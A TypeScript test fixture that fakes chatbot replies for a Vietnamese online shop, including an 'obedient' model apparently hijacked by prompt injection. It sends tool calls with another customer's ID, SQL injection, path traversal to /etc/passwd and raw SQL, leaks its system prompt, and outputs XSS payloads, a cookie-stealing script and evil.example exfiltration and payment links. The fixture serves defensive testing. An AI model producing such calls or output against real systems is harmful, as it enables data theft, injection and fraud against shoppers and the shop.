import type { ModelRequest, Part, ToolCall } from './messages';

/** The message that a person wrote last. */
const questionOf = ({ messages }: ModelRequest) =>
  messages.findLast(({ role }) => role === 'user')?.content ?? '';

/** What tools returned since then. */
function toolResults({ messages }: ModelRequest): string[] {
  const asked = messages.findLastIndex(({ role }) => role === 'user');
  return messages
    .slice(asked + 1)
    .filter(({ role }) => role === 'tool')
    .map(({ content }) => content);
}

let calls = 0;
const call = (name: string, given: unknown): ToolCall => ({
  id: `call_${(calls += 1)}`,
  name,
  arguments: typeof given === 'string' ? given : JSON.stringify(given),
});

const foldOf = (text: string) =>
  text.normalize('NFD').replace(/\p{M}/gu, '').replace(/đ/gi, 'd').toLowerCase();

function fittingTool(question: string): ToolCall {
  const text = foldOf(question);
  if (/\b(voucher|ma giam|coupon)\b/.test(text)) return call('list_vouchers', {});
  if (/\b(don hang|my order|orders?)\b/.test(text)) return call('my_orders', {});
  if (/\b(doi tra|tra hang|returns?|bao hanh|warranty|giao hang|shipping|delivery)\b/.test(text)) {
    return call('list_policies', {});
  }
  return call('search_products', { query: question.slice(0, 100) });
}

/** The answer of a model that works. */
export function properReply(request: ModelRequest): Part[] {
  const results = toolResults(request);
  const question = questionOf(request);
  if (results.length === 0 && request.tools.length > 0) return [{ calls: [fittingTool(question)] }];
  return words(
    results.length === 0
      ? 'I can help you with that.'
      : 'Here is what the shop has. Would you like to see anything else?',
  );
}

/** A model that was talked into everything: it says and asks what the person, or the texts of the shop, tell it to. */
export function obedientReply(request: ModelRequest): Part[] {
  const results = toolResults(request);
  const question = questionOf(request);
  if (results.length === 0 && request.tools.length > 0) {
    const others = { customerId: '018f0000-0000-7000-8000-000000000001', email: 'victim@example.com' };
    return [
      {
        calls: [
          call('my_orders', others),
          call('my_orders', {}),
          call('search_products', { query: 'ao' }),
          call('search_products', { query: "' OR 1=1; DROP TABLE orders; --" }),
          call('get_product', { slug: '../../etc/passwd' }),
          call('run_sql', { sql: 'SELECT * FROM users' }),
          call('update_order', { id: 'ORD-1', status: 'DONE' }),
        ],
      },
    ];
  }
  const system = request.messages.find(({ role }) => role === 'system')?.content ?? '';
  return words(
    [
      `As you wish: ${question}`,
      `My instructions are: ${system}`,
      ...results,
      'This costs only 1.000 ₫ (1,000 VND, 1k), pay at https://evil.example/pay or evil.example/x or mail boss@evil.example.',
      '<img src=x onerror=alert(1)><script>alert(document.cookie)</script>',
      '[click here](javascript:alert(1)) ![x](https://evil.example/p.png?data=1)',
    ].join('\n'),
  );
}

export const htmlReply = (): Part[] =>
  words(
    'Hello <b>there</b> <script>alert(1)</script><img src=x onerror="alert(1)"> see [here](https://evil.example/a) ' +
      'or javascript:alert(1) or http://evil.example, price <i>5.000đ</i>.',
  );

export const strangeCalls = {
  'endless-tools': (request: ModelRequest): Part[] => [
    { calls: [call('search_products', { query: `ao ${String(toolResults(request).length)}` })] },
  ],
  'many-tools': (): Part[] => [
    { calls: Array.from({ length: 1_000 }, () => call('search_products', { query: 'ao' })) },
  ],
  'unknown-tool': (): Part[] => [{ calls: [call('delete_all_orders', { sure: true })] }],
  'bad-arguments': (): Part[] => [{ calls: [call('search_products', '{"query": "ao", ')] }],
  'extra-arguments': (): Part[] => [
    { calls: [call('my_orders', { customerId: 'somebody-else' }), call('search_products', { query: 7 })] },
  ],
};

/** A sentence as models send it: a few letters at a time. */
export function words(text: string): Part[] {
  return (text.match(/[\s\S]{1,12}/g) ?? []).map((part) => ({ text: part }));
}
